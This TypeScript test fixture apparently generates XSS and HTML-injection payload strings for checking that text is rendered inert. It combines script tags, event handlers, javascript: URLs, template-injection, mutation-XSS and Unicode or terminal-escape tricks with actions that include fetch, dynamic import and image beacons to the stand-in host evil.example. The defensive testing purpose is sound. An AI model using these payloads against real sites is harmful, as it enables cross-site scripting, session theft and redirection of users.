/** What runs if a text is taken for more than text: each sets a mark, opens a dialog or asks another host. */
const acts = [
  'globalThis.ran=NUMBER',
  'alert(NUMBER)',
  "fetch('http://evil.example/NUMBER')",
  "import('http://evil.example/NUMBER.js')",
  "document.body.append(Object.assign(new Image(),{src:'http://evil.example/NUMBER'}))",
];

const shapes = [
  '<script>ACT</script>',
  '<img src=x onerror="ACT">',
  '<svg onload=ACT>',
  '<svg><script>ACT</script></svg>',
  '"><script>ACT</script>',
  "'><img src=x onerror='ACT'>",
  '"/onmouseover="ACT" autofocus onfocus="ACT" x="',
  "' onclick='ACT' '",
  '</title><script>ACT</script>',
  '</style><script>ACT</script>',
  '</script><script>ACT</script>',
  '--><script>ACT</script><!--',
  ']]><script>ACT</script>',
  '</textarea><script>ACT</script>',
  '</summary></details><script>ACT</script>',
  '</td></tr></table><iframe srcdoc="<script>ACT</script>"></iframe>',
  '<iframe src="javascript:ACT"></iframe>',
  '<a href="javascript:ACT">click</a>',
  'javascript:ACT',
  'data:text/html,<script>ACT</script>',
  '<object data="data:text/html,<script>ACT</script>"></object>',
  '<embed src="javascript:ACT">',
  '<base href="http://evil.example/"><script src="x.js"></script>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/NUMBER">',
  '<link rel="stylesheet" href="http://evil.example/NUMBER.css">',
  '<style>@import "http://evil.example/NUMBER.css";</style>',
  '<style>body{background:url(http://evil.example/NUMBER)}</style>',
  '<form action="http://evil.example/"><button formaction="javascript:ACT">',
  '<math><mtext><table><mglyph><style><img src=x onerror=ACT>',
  '<template><script>ACT</script></template>',
  '<details open ontoggle="ACT">',
  '<video><source onerror="ACT"></video>',
  '<body onload="ACT">',
  '<input autofocus onfocus="ACT">',
  '&lt;script&gt;ACT&lt;/script&gt;',
  '&#60;script&#62;ACT&#60;/script&#62;',
  '\\u003cscript\\u003eACT\\u003c/script\\u003e',
  `{{constructor.constructor("ACT")()}}${'$'}{ACT}#{ACT}`,
  '![x](http://evil.example/NUMBER.png) [y](javascript:ACT)',
  '\u202e<script>ACT</script>\u0000\u001b]8;;http://evil.example\u0007x\u200b\ufeff\u{e0041}',
];

/** At most 200 texts that must be shown as they are, and must not run. */
export function htmlPayloads(count: number): string[] {
  const texts = acts.flatMap((act, round) =>
    shapes.map((shape, index) => {
      const number = String(round * shapes.length + index + 1);
      return shape.replaceAll('ACT', () => act).replaceAll('NUMBER', number);
    }),
  );
  return texts.slice(0, count);
}
